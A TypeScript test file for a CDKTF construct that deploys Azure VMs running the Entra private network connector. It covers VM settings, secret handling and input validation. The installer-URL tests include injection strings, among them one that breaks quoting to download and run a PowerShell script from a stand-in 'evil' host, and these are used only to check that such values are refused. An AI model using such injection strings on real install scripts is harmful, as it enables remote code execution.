import { VirtualMachineExtension } from '@cdktf/provider-azurerm/lib/virtual-machine-extension';
import { WindowsVirtualMachine } from '@cdktf/provider-azurerm/lib/windows-virtual-machine';
import { AzurermProvider } from '@cdktf/provider-azurerm/lib/provider';
import { TerraformStack, TerraformVariable, Testing } from 'cdktf';
import { ConnectorGroup, ConnectorHost, ConnectorHostProps } from '../lib';
import { annotationsOf, errorOf, synthStack, testStack } from './util';

function hosts(props: Partial<ConnectorHostProps> = {}, configure?: (s: TerraformStack) => Partial<ConnectorHostProps>) {
  const s = testStack();
  new AzurermProvider(s, 'azurerm', { features: [{}] });
  const group = new ConnectorGroup(s, 'Group', { name: 'DC1' });
  const host = new ConnectorHost(s, 'Connectors', {
    resourceGroupName: 'rg-connectors',
    location: 'westeurope',
    subnetId: '/subscriptions/0/resourceGroups/rg-net/providers/Microsoft.Network/virtualNetworks/vnet/subnets/snet-connectors',
    connectorGroup: group,
    namePrefix: 'paconn',
    ...props,
    ...(configure ? configure(s) : {}),
  });
  return { s, host, text: synthStack(s), tf: () => JSON.parse(synthStack(s)) };
}

describe('ConnectorHost', () => {
  test('two Windows Server 2022 VMs with Trusted Launch, no public IP, spread over the zones', () => {
    const { tf, text } = hosts({ zones: ['1', '2', '3'] });
    const vms = Object.values<any>(tf().resource.azurerm_windows_virtual_machine);
    expect(vms.map((v) => [v.name, v.computer_name, v.zone])).toEqual([
      ['vm-paconn-1', 'paconn-1', '1'],
      ['vm-paconn-2', 'paconn-2', '2'],
    ]);
    expect(text).toHaveResourceWithProperties(WindowsVirtualMachine, {
      size: 'Standard_D2s_v5',
      admin_username: 'connectoradmin',
      admin_password: '${var.paconn_admin_password}',
      secure_boot_enabled: true,
      vtpm_enabled: true,
      source_image_reference: { publisher: 'MicrosoftWindowsServer', offer: 'WindowsServer', sku: '2022-datacenter-azure-edition', version: 'latest' },
      lifecycle: { ignore_changes: ['admin_password'] },
    });
    const nics = Object.values<any>(tf().resource.azurerm_network_interface);
    expect(nics.map((n) => n.ip_configuration)).toEqual([
      [{ name: 'internal', private_ip_address_allocation: 'Dynamic', subnet_id: expect.stringContaining('snet-connectors') }],
      [{ name: 'internal', private_ip_address_allocation: 'Dynamic', subnet_id: expect.stringContaining('snet-connectors') }],
    ]);
    expect(JSON.stringify(tf().resource)).not.toContain('public_ip');
  });

  test('installs the connector silently and registers it with the token, in protected settings only', () => {
    const { tf, text } = hosts();
    expect(text).toHaveResourceWithProperties(VirtualMachineExtension, {
      publisher: 'Microsoft.Compute',
      type: 'CustomScriptExtension',
      type_handler_version: '1.10',
      lifecycle: { ignore_changes: ['protected_settings'] },
    });
    const extension = Object.values<any>(tf().resource.azurerm_virtual_machine_extension)[0];
    expect(extension.settings).toBeUndefined();
    const command = JSON.parse(extension.protected_settings).commandToExecute as string;
    expect(command).toContain('MicrosoftEntraPrivateNetworkConnectorInstaller.exe');
    // Quotes inside `powershell -Command "…"` are escaped for the Windows command line.
    expect(command).toContain("-ArgumentList 'REGISTERCONNECTOR=\\\"false\\\" /q'");
    expect(command).toContain("ConvertTo-SecureString '${var.paconn_registration_token}' -AsPlainText -Force");
    expect(command).toContain(
      "RegisterConnector.ps1' -modulePath 'C:\\Program Files\\Microsoft Entra private network connector\\Modules\\' -moduleName 'MicrosoftEntraPrivateNetworkConnectorPSModule' -Authenticationmode Token -Token $token -TenantId '${data.azuread_client_config.Connectors_ClientConfig_44394D1F.tenant_id}' -Feature ApplicationProxy",
    );
  });

  test('secrets are sensitive variables without defaults, referenced only where they are needed', () => {
    const { tf } = hosts();
    const out = tf();
    expect(out.variable).toEqual({
      paconn_admin_password: expect.objectContaining({ type: 'string', sensitive: true, nullable: false }),
      paconn_registration_token: expect.objectContaining({ type: 'string', sensitive: true, nullable: false }),
    });
    expect(JSON.stringify(out.variable)).not.toContain('default');
    const text = JSON.stringify(out);
    const uses = (v: string) => text.split(`var.${v}`).length - 1;
    expect([uses('paconn_admin_password'), uses('paconn_registration_token')]).toEqual([2, 2]);
  });

  test('a literal secret is refused, so it can never reach the synthesized JSON', () => {
    expect(errorOf(() => hosts({ adminPassword: 'P@ssw0rd-literal' as unknown as TerraformVariable }))).toBe(
      'test/Connectors: adminPassword must be a TerraformVariable with sensitive: true, so that its value never appears in the plan or in cdk.tf.json',
    );
  });

  test('joins each registered connector to the connector group', () => {
    const { tf } = hosts({ count: 2 });
    const data = Object.values<any>(tf().data.msgraph_resource).filter((d) => d.url !== 'me');
    expect(data.map((d) => d.response_export_values.id)).toEqual([
      "value[?(machineName=='paconn-1' || starts_with(machineName, 'paconn-1.') || machineName=='PACONN-1' || starts_with(machineName, 'PACONN-1.')) && status=='active'] | [0].id",
      "value[?(machineName=='paconn-2' || starts_with(machineName, 'paconn-2.') || machineName=='PACONN-2' || starts_with(machineName, 'PACONN-2.')) && status=='active'] | [0].id",
    ]);
    // The read waits for its host's extension by an input that is unknown only while the extension
    // is new, not by depends_on, which would defer it (and re-POST the join) on any extension change.
    expect(data[0].depends_on).toBeUndefined();
    expect(data[0].headers).toEqual({ 'x-cdktf-entra-private-access-host': expect.stringMatching(/^\$\{azurerm_virtual_machine_extension\.Connectors_Host1_InstallConnector_[0-9A-F]+\.id\}$/) });
    const joins = Object.values<any>(tf().resource.msgraph_resource_action);
    expect(joins[0].body).toEqual({
      '@odata.id': expect.stringMatching(/^https:\/\/graph\.microsoft\.com\/beta\/onPremisesPublishingProfiles\/applicationProxy\/connectors\/\$\{data\.msgraph_resource\./),
    });
    expect(joins[0]).toEqual(
      expect.objectContaining({
        resource_url: 'onPremisesPublishingProfiles/applicationProxy/connectorGroups/${msgraph_resource.Group_C77FDACD.id}',
        action: 'members/$ref',
        method: 'POST',
        api_version: 'beta',
      }),
    );
  });

  test('opens the outbound access the connectors need when asked', () => {
    const { tf } = hosts({ outboundAccess: { networkSecurityGroup: { resourceGroupName: 'rg-net', name: 'nsg-connectors' }, priority: 200 } });
    const rule = Object.values<any>(tf().resource.azurerm_network_security_rule)[0];
    expect(rule).toEqual(
      expect.objectContaining({
        direction: 'Outbound',
        access: 'Allow',
        protocol: 'Tcp',
        destination_port_ranges: ['80', '443'],
        destination_address_prefix: 'Internet',
        network_security_group_name: 'nsg-connectors',
        priority: 200,
      }),
    );
  });

  test('one host is a warning: no high availability', () => {
    const { s } = hosts({ count: 1 });
    expect(annotationsOf(s)).toEqual([
      'warning test/Connectors: only 1 connector host: no high availability; use at least 2 (the default) in different zones',
    ]);
  });

  describe('errors', () => {
    test.each<[Partial<ConnectorHostProps>, string]>([
      [{ count: 0 }, 'test/Connectors: count 0 is outside 1-9'],
      [{ namePrefix: 'Private-Access-Connectors' }, 'test/Connectors: name prefix "Private-Access-Connectors" is not 1-13 lower-case letters'],
      [{ adminUsername: 'admin' }, 'test/Connectors: adminUsername "admin" is a name Azure reserves'],
      [{ adminUsername: 'Administrator' }, 'adminUsername "Administrator" is a name Azure reserves'],
      [{ adminUsername: 'root' }, 'adminUsername "root" is a name Azure reserves'],
      [{ adminUsername: 'a-very-long-admin-name-x' }, 'adminUsername "a-very-long-admin-name-x" is not 1-20 characters'],
      [{ adminUsername: 'conn@admin' }, 'is not 1-20 characters without spaces or any of'],
      [{ vmSize: 'D2s v5' }, 'vmSize "D2s v5" is not an Azure VM size such as "Standard_D2s_v5"'],
      [{ zones: ['1', '4'] }, 'zone "4" is not "1", "2" or "3"'],
      [{ zones: ['1', '1'] }, 'name a zone twice'],
      [{ location: 'West Europe' }, 'location "West Europe" is not a region name such as "westeurope"; write it in lower case without spaces ("westeurope")'],
      [{ subnetId: 'snet-connectors' }, 'subnetId "snet-connectors" is not a subnet resource ID'],
      [{ resourceGroupName: 'rg connectors' }, 'resourceGroupName "rg connectors" is not a resource group name'],
      [{ resourceGroupName: 'rg.' }, 'resourceGroupName "rg." is not a resource group name'],
      [
        { outboundAccess: { networkSecurityGroup: { resourceGroupName: 'rg-net', name: 'nsg' }, priority: 99 } },
        'test/Connectors: outboundAccess.priority 99 is outside 100-4096',
      ],
    ])('%j', (props, message) => {
      expect(errorOf(() => hosts(props))).toContain(message);
    });

    test('a secret variable that is not sensitive, or has a default', () => {
      expect(errorOf(() => hosts({}, (s) => ({ adminPassword: new TerraformVariable(s, 'pw', { type: 'string' }) })))).toBe(
        'test/Connectors: adminPassword must be a TerraformVariable with sensitive: true, so that its value never appears in the plan or in cdk.tf.json',
      );
      expect(
        errorOf(() => hosts({}, (s) => ({ registrationToken: new TerraformVariable(s, 'token', { type: 'string', sensitive: true, default: 'x' }) }))),
      ).toBe('test/Connectors: registrationToken has a default value, which would be written to cdk.tf.json in clear; remove it and set the value with TF_VAR_… in the pipeline');
    });
  });

  describe('the installer URL cannot open the hosts up', () => {
    test.each<[string, string]>([
      ['http://download.example.com/installer.exe', 'is not an https URL; the installer must be downloaded over https'],
      ["https://x/a'; iex (iwr http://evil/p.ps1); '", `has the character "'", which could break the install script's quoting`],
      ['https://x/a"b', 'has the character "\\"", which could break'],
      ['https://x/a%20b', 'has the character "%", which could break'],
      ['https://x/a$(whoami)', 'has the character "$", which could break'],
      ['https://store.blob.core.windows.net/c/installer.exe?sv=2024&sig=abc', 'has a query string or fragment; a SAS token would be written to cdk.tf.json in clear'],
      ['not a url', 'is not an https URL'],
    ])('%s is refused', (installerUrl, message) => {
      expect(errorOf(() => hosts({ installerUrl }))).toContain(message);
    });

    test('a plain https URL is used as it is, in single quotes', () => {
      const { tf } = hosts({ installerUrl: 'https://downloads.contoso.com/connector/installer-1.5.exe' });
      const command = JSON.parse(Object.values<any>(tf().resource.azurerm_virtual_machine_extension)[0].protected_settings).commandToExecute;
      expect(command).toContain("-Uri 'https://downloads.contoso.com/connector/installer-1.5.exe' -OutFile");
    });

    test('a SAS URL from a sensitive variable reaches the hosts base64-encoded, in protected settings only', () => {
      const { tf, text } = hosts({}, (s) => ({
        installerUrl: new TerraformVariable(s, 'installer_url', { type: 'string', sensitive: true }).stringValue,
      }));
      const command = JSON.parse(Object.values<any>(tf().resource.azurerm_virtual_machine_extension)[0].protected_settings).commandToExecute;
      expect(command).toContain("-Uri ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${base64encode(var.installer_url)}'))) -OutFile");
      expect(text.match(/var\.installer_url/g)).toHaveLength(2); // one extension per host, nowhere else
    });

    test('a URL from a variable that is not sensitive, or from another token, is refused', () => {
      expect(errorOf(() => hosts({}, (s) => ({ installerUrl: new TerraformVariable(s, 'url', { type: 'string' }).stringValue })))).toBe(
        'test/Connectors: installerUrl must be a TerraformVariable with sensitive: true, so that its value never appears in the plan or in cdk.tf.json',
      );
      expect(errorOf(() => hosts({}, (s) => ({ installerUrl: new ConnectorGroup(s, 'Other', { name: 'x' }).connectorGroupId })))).toContain(
        'installerUrl is a token that is not a Terraform variable',
      );
    });
  });

  test('secret variables are checked again as synthesized, after overrides', () => {
    const { s, host } = hosts();
    host.adminPassword.addOverride('sensitive', false);
    host.registrationToken.addOverride('default', 'eyJ0eXAi');
    const message = errorOf(() => synthStack(s));
    expect(message).toContain('[test/Connectors] adminPassword must be a TerraformVariable with sensitive: true, so that its value never appears in the plan or in cdk.tf.json (as synthesized, after overrides)');
    expect(message).toContain('[test/Connectors] registrationToken has a default value, which would be written to cdk.tf.json in clear; remove it and set the value with TF_VAR_… in the pipeline (as synthesized, after overrides)');
  });

  test('a host keeps its zone whatever the order of zones', () => {
    const zonesOf = (zones: string[]) =>
      Object.values<any>(hosts({ zones, count: 3 }).tf().resource.azurerm_windows_virtual_machine).map((v) => [v.name, v.zone]);
    expect(zonesOf(['2', '1', '3'])).toEqual(zonesOf(['1', '2', '3']));
    expect(zonesOf(['3', '1'])).toEqual([['vm-paconn-1', '1'], ['vm-paconn-2', '3'], ['vm-paconn-3', '1']]);
  });

  test('two connector hosts constructs with one namePrefix in the App are refused', () => {
    expect(
      errorOf(() =>
        hosts({}, (s) => {
          new ConnectorHost(s, 'Earlier', {
            resourceGroupName: 'rg-connectors',
            location: 'westeurope',
            subnetId: '/subscriptions/0/resourceGroups/rg-net/providers/Microsoft.Network/virtualNetworks/vnet/subnets/snet-connectors',
            connectorGroup: ConnectorGroup.fromConnectorGroupId(s, 'G2', '55555555-5555-5555-5555-555555555555'),
            namePrefix: 'paconn',
          });
          return {};
        }),
      ),
    ).toBe(
      'test/Connectors: namePrefix "paconn" is already used by test/Earlier: the VMs would have the same names and share the secret variables paconn_admin_password and paconn_registration_token; pass another namePrefix',
    );
  });

  test('exposes the hosts for network rules', () => {
    const { host } = hosts();
    expect(host.privateIpAddresses).toHaveLength(2);
    expect(host.computerNames).toEqual(['paconn-1', 'paconn-2']);
    expect(Testing).toBeDefined();
  });
});
